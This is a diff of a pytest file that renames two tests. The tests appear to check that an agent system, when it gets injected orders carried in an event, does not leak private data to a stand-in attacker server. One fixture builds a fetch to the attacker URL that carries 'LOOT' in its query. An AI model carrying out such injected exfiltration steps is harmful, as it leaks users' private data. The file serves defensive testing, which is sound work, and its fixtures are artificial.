@@ -144,7 +144,7 @@ def codes(went):
 
 
 @pytest.mark.smoke
-async def test_orders_that_come_with_an_event_get_nothing_out_in_any_way(stage):
+async def test_injected_orders_of_an_event_send_no_private_data_out(stage):
     went, run_id = await stage.event("victim", {"do": "diary"}, *stage.leaves(), {"do": "fail"}, conversation="room")
     assert codes(went) == [
         ("diary", "done"),
@@ -172,7 +172,7 @@ async def test_orders_that_come_with_an_event_get_nothing_out_in_any_way(stage):
     assert stage.attacker.arrived == b""
 
 
-async def test_what_one_run_may_not_send_no_other_sends_that_reads_it(stage):
+async def test_private_data_of_a_run_stays_protected_in_runs_that_read_it(stage):
     url = stage.attacker.url
     out = [{"do": "fetch", "url": f"{url}/?LOOT"}, {"do": "send", "text": "it says LOOT"}]
     await stage.event("victim", {"do": "diary"}, {"do": "say", "text": "LOOT"}, conversation="said")
